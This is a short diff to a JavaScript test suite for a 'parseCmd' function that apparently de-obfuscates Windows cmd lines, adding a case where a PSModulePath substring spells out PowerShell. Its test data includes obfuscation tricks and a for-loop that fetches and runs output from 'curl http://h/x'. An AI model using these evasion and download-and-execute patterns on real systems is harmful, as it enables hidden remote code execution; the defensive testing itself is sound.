@@ -46,6 +46,7 @@ describe("parseCmd", () => {
       ["Set", "fIndStr ,;PSM", "PowerShell"],
     ],
     ["i^f 1==1 calc", ["calc"]],
+    ["%PSModulePath:~24,10% -c x", ["PowerShell -c x"]],
     ["for /f %a in ('echo %x%') do start %a", ["echo %x%", "start %a"]],
     ["for /f %i in ('curl http://h/x') do @%i", ["curl http://h/x", "cmd"]],
     ["for /f \"tokens=*\" %%i in ('x.exe') do cmd /c %%i", ["x.exe", "cmd"]],
